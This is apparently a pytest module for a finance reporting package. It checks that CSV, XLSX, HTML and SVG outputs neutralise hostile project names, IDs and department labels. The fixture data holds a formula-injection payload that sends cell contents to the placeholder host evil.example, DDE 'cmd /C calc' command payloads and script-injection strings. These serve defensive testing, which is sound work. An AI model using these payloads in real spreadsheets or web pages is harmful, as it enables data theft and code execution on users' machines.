"""Hostile text in inputs is shown, never run: CSV / XLSX neutralised, HTML and SVG escaped."""

from __future__ import annotations

import base64
import csv
import io
import zipfile
from pathlib import Path

import openpyxl
import pytest

from missionfinance.report import write_outputs
from missionfinance.testing import make_run

from .test_report_html import Page

LONG = "Very long project description " * 2000  # 60,000 characters
HOSTILE_NAMES = [
    '=HYPERLINK("http://evil.example/?d="&A1,"click me")',
    "<script>alert('name')</script>",
    LONG,
    "مشروع طاقة الرياح البحرية",  # Arabic, right-to-left
    "פרויקט רכבת קלה",  # Hebrew, right-to-left
    "🚀 Launch pad 🌍 with emoji 👩🏽‍🔬",
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "-2+3",
    "Costs $x^2$ and \\frac{1}{0} \x07 bell",
    "</td></tr></table><img src=x onerror=alert(1)>",
]
HOSTILE_IDS = ["=1+2", "P-0002", "<b>P3</b>", "@P4", "P5", "P6", "+P7", "P8", "P9", "P10",
               "P11", "P12"]
HOSTILE_DEPARTMENTS = ["<script>alert('dept')</script>", "=cmd|' /C calc'!A0",
                       "وزارة الطاقة", "🚀 Dept $\\alpha$"]
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Path:
    root = tmp_path_factory.mktemp("hostile")
    run = make_run(root / "work", n_projects=12, names=HOSTILE_NAMES, ids=HOSTILE_IDS,
                   departments=HOSTILE_DEPARTMENTS)
    return write_outputs(run, root / "out")


def test_csv_cells_are_neutralised(hostile: Path) -> None:
    for name in ("allocation.csv", "tags.csv", "missions.csv", "constraints.csv"):
        rows = list(csv.reader(io.StringIO((hostile / name).read_text(encoding="utf-8"))))
        header = rows[0]
        for row in rows[1:]:
            for column, cell in zip(header, row, strict=True):
                try:
                    float(cell)  # numbers stay numbers, even negative ones and -inf bounds
                except ValueError:
                    assert not cell.startswith(FORMULA_START), (column, name, cell)
    ids = {r[0] for r in csv.reader(io.StringIO((hostile / "allocation.csv").read_text()))}
    assert "'=1+2" in ids and "'@P4" in ids and "P-0002" in ids


def test_xlsx_has_no_formula_and_keeps_text_readable(hostile: Path) -> None:
    wb = openpyxl.load_workbook(hostile / "report.xlsx")
    seen: set[str] = set()
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    assert not cell.value.startswith(FORMULA_START), (ws.title, cell.value)
                    seen.add(cell.value)
    assert "'" + HOSTILE_NAMES[0] in seen
    assert "<script>alert('name')</script>" in seen
    assert "مشروع طاقة الرياح البحرية" in seen and "🚀 Launch pad 🌍 with emoji 👩🏽‍🔬" in seen
    assert "'=1+1" in seen  # the pipeline reader strips the tab; the formula is neutralised
    longest = max(seen, key=len)
    assert longest.startswith("Very long") and len(longest) <= 32767
    with zipfile.ZipFile(hostile / "report.xlsx") as z:
        assert not any(n.startswith("xl/externalLinks") for n in z.namelist())


def test_html_escapes_everything_and_stays_readable(hostile: Path) -> None:
    text = (hostile / "report.html").read_text(encoding="utf-8")
    page = Page()
    page.feed(text)
    assert page.scripts == 0
    assert "<script>" not in text and "onerror=alert" not in text.replace(
        "onerror=alert(1)&gt;", "")
    assert "&lt;script&gt;alert(&#39;name&#39;)&lt;/script&gt;" in text
    assert all(u.startswith(("data:image/svg+xml;base64,", "#")) for u in page.urls)
    visible = "".join(page.text)
    assert "مشروع طاقة الرياح البحرية" in visible and "👩🏽‍🔬" in visible
    assert '=HYPERLINK("http://evil.example/?d="&A1,"click me")' in visible
    assert "more characters)" in visible  # the 60,000-character name is cut in HTML
    assert len(text) < 2_000_000
    assert 'dir="auto"' in text


def test_chart_svg_shows_hostile_labels_as_text(hostile: Path) -> None:
    page = Page()
    page.feed((hostile / "report.html").read_text(encoding="utf-8"))
    svgs = [base64.b64decode(u.split(",", 1)[1]).decode() for u in page.urls
            if u.startswith("data:")]
    joined = "\n".join(svgs)
    assert "<script" not in joined
    assert "&lt;script&gt;" in joined  # the department label, escaped
